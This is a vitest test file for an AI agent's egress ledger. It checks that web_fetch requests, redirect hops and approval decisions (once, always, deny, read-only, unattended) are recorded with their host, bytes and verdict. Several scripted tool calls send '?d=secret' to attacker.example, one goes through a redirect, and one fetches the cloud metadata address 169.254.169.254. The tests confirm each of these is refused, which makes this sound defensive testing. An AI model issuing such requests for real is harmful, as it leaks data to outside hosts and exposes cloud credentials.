// The egress ledger through the real agent loop (approval mode `ask`): every request web_fetch makes or is refused,
// each redirect hop included, is a row with its host, port, bytes and verdict — so the user sees what left, and what tried to.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ApprovalDecision } from '../../src-preload/contract/event-schemas';
import type { Core } from '../../src-main/core/nanotray-core';
import { useScriptedCore } from '../helpers/scripted-core';
import { startWebHosts, type WebHosts } from './helpers/web-hosts';

const t = useScriptedCore({ approvalMode: 'auto' });
let web: WebHosts;
beforeAll(async () => {
  web = await startWebHosts();
});
beforeEach(() => {
  web.hits.length = 0;
});
afterAll(async () => {
  await web.close();
});

const ALLOWED = 'allowed.example';
const ATTACKER = 'attacker.example';

/** A core in `ask` mode (or the one given) whose web_fetch reaches the loopback hosts by name (injected DNS). */
function openCore(mode: 'ask' | 'readonly' = 'ask'): Core {
  return t.open(
    { tools: { approval: { mode }, web: { allowPrivateHosts: [ALLOWED, ATTACKER] } } },
    { tools: { webFetch: { resolveAll: (host) => web.resolveAll(host) } } },
  );
}

function fetches(urls: string[]): void {
  t.llm.enqueue({ toolCalls: urls.map((url, i) => ({ id: `fetch${i}`, name: 'web_fetch', arguments: { url } })) }, { text: 'Done.' });
}

/** The ledger's rows, oldest first, as [host, port, verdict, sent something, read something]. */
function rows(core: Core): [string, number, string, boolean, boolean][] {
  return core.egress
    .list({ since: 0 })
    .reverse()
    .map((r) => [r.host, r.port, r.verdict, r.bytesOut > 0, r.bytesIn > 0]);
}

function answer(core: Core, decision: ApprovalDecision): void {
  core.events.on((event) => {
    if (event.type === 'approval.requested') queueMicrotask(() => core.approvals.resolve(event.id, decision));
  });
}

describe('the egress ledger records every web_fetch request', () => {
  it('records a refused host (nobody to ask) with nothing sent, and an allowed one with its bytes and rule', async () => {
    const core = openCore();
    core.approvals.allowHost(`${ALLOWED}:${web.port}`);
    fetches([`${web.origin(ATTACKER)}/?d=secret`, `${web.origin(ALLOWED)}/docs`]);
    await core.sessions.run({ sessionKey: 'cron:job1', text: 'go', interactive: false });
    expect(web.hitsOn(ATTACKER)).toEqual([]);
    expect(rows(core)).toEqual([
      [ATTACKER, web.port, 'unattended', false, false],
      [ALLOWED, web.port, 'rule', true, true],
    ]);
    const row = core.egress.list({ since: 0, host: ALLOWED })[0]!;
    expect(row).toMatchObject({ sessionKey: 'cron:job1', sourceKind: 'web_fetch' });
    // The answer's body alone is longer than this; the request line and headers are more than 50 bytes.
    expect(row.bytesIn).toBeGreaterThan(`page /docs of ${ALLOWED}:${web.port}`.length);
    expect(row.bytesOut).toBeGreaterThan(50);
  });

  it('records each redirect hop: the allowed hop with its bytes, the hop to an unapproved host as refused', async () => {
    const core = openCore();
    core.approvals.allowHost(`${ALLOWED}:${web.port}`);
    fetches([`${web.origin(ALLOWED)}/redirect?to=${encodeURIComponent(`${web.origin(ATTACKER)}/?d=secret`)}`]);
    await core.sessions.run({ sessionKey: 'heartbeat', text: 'go', interactive: false });
    expect(web.hitsOn(ATTACKER)).toEqual([]);
    expect(rows(core)).toEqual([
      [ALLOWED, web.port, 'rule', true, true],
      [ATTACKER, web.port, 'unattended', false, false],
    ]);
  });

  it("records the user's answer: once, always, and a denial", async () => {
    const core = openCore();
    answer(core, 'allow_once');
    fetches([`${web.origin(ALLOWED)}/a`]);
    await core.sessions.run({ sessionKey: 'desktop:default', text: 'go', interactive: true });
    expect(rows(core).at(-1)).toEqual([ALLOWED, web.port, 'once', true, true]);

    const always = openCore();
    answer(always, 'allow_always');
    fetches([`${web.origin(ALLOWED)}/b`, `${web.origin(ALLOWED)}/c`]);
    await always.sessions.run({ sessionKey: 'desktop:default', text: 'go', interactive: true });
    // The first call was answered "always"; the second is then covered by the rule that answer added.
    expect(rows(always).map((r) => r[2])).toEqual(['always', 'rule']);

    const denying = openCore();
    answer(denying, 'deny');
    fetches([`${web.origin(ATTACKER)}/?d=secret`]);
    await denying.sessions.run({ sessionKey: 'desktop:default', text: 'go', interactive: true });
    expect(web.hitsOn(ATTACKER)).toEqual([]);
    expect(rows(denying).at(-1)).toEqual([ATTACKER, web.port, 'denied', false, false]);
  });

  it('records a host refused in read-only mode, and a ruled host read in it', async () => {
    const core = openCore('readonly');
    core.approvals.allowHost(`${ALLOWED}:${web.port}`);
    fetches([`${web.origin(ATTACKER)}/?d=secret`, `${web.origin(ALLOWED)}/docs`]);
    await core.sessions.run({ sessionKey: 'desktop:default', text: 'go', interactive: true });
    expect(web.hitsOn(ATTACKER)).toEqual([]);
    expect(rows(core)).toEqual([
      [ATTACKER, web.port, 'readonly', false, false],
      [ALLOWED, web.port, 'rule', true, true],
    ]);
  });

  it('records an address the SSRF guard refused after the host was approved', async () => {
    const core = t.open({ tools: { approval: { mode: 'auto' } } });
    fetches(['http://169.254.169.254/latest/meta-data/']);
    await core.sessions.run({ sessionKey: 'desktop:default', text: 'go', interactive: true });
    expect(rows(core)).toEqual([['169.254.169.254', 80, 'address', false, false]]);
  });
});
